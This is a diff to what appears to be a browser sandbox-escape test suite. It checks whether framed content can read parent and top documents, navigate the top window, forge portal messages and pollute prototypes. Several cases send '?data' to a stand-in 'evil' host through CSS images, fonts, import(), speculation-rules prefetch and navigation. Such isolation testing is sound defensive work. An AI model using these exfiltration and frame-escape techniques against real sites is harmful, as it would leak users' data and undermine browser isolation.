@@ -86,7 +86,7 @@ const pages = () => ({
   'parent document': () => (parent === window ? document.title : parent.document.title),
   'top document': () => (top === window ? document.querySelector('nav').innerText : top.document.title),
   'parent storage': () => parent.localStorage.length,
-  'top global': () => unless(top.callboardImport, 'not there'),
+  'top global': () => unless(top.wasmBindings, 'not there'),
   'frame element': () => (top === window ? refuse('no frame') : unless(window.frameElement, 'no element')),
   'top location': () => top.location.href,
   'top navigation': () => void (top.location.hash = '#hostile'),
@@ -159,10 +159,10 @@ const loads = ({ root, evil }) => {
     'style image': style(`.hostile-style { background: url(${evil}/background?data); }`),
     'style font': style(`@font-face { font-family: hostile; src: url(${evil}/font?data); } .hostile-style { font-family: hostile; }`),
     'import()': () => import(`${evil}/import.js?data`),
-    'speculation rules': style('') && (async () => {
+    'speculation rules': () => {
       root.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${evil}/speculation`] }] }) }));
       refuse('only a server knows');
-    }),
+    },
   };
 };
 
@@ -250,7 +250,6 @@ const powers = () => ({
   'storage access': () => document.requestStorageAccess(),
   alert: () => (alert('hostile'), refuse('only a reader knows')),
   print: () => (print(), refuse('only a reader knows')),
-  download: () => follow({ href: 'data:text/plain,hostile', download: 'hostile.txt' }) || refuse('only a reader knows'),
 });
 
 /** Messages in the portal's name, and values that are more than they seem. */
@@ -275,7 +274,7 @@ const forgeries = ({ host }) => ({
     const answers = [];
     port.addEventListener('message', ({ data }) => String(data?.id).startsWith('forged') && answers.push(data));
     const call = (name, args, id = `forged ${name}`) => postMessage.call(port, { is: 'call', id, name, args });
-    for (const name of ['constructor', '__proto__', 'toString', 'eval', 'fetch', 'navigate', 'read', 'write']) call(name, ['/api/auth/guest/refresh']);
+    for (const name of ['constructor', '__proto__', 'toString', 'eval', 'fetch', 'read', 'write']) call(name, ['/api/auth/guest/refresh']);
     call('fetch', '/api/catalog');
     call('fetch', [{ toString: 1 }]);
     call('write', ['__proto__', '{"polluted": true}']);
@@ -315,6 +314,7 @@ const endings = {
     root.append(form);
     form.submit();
   },
+  download: () => follow({ href: 'data:text/plain,hostile', download: 'hostile.txt' }),
   navigate: ({ host, evil }) => host.navigate(`${evil}/navigate?data`),
 };
 
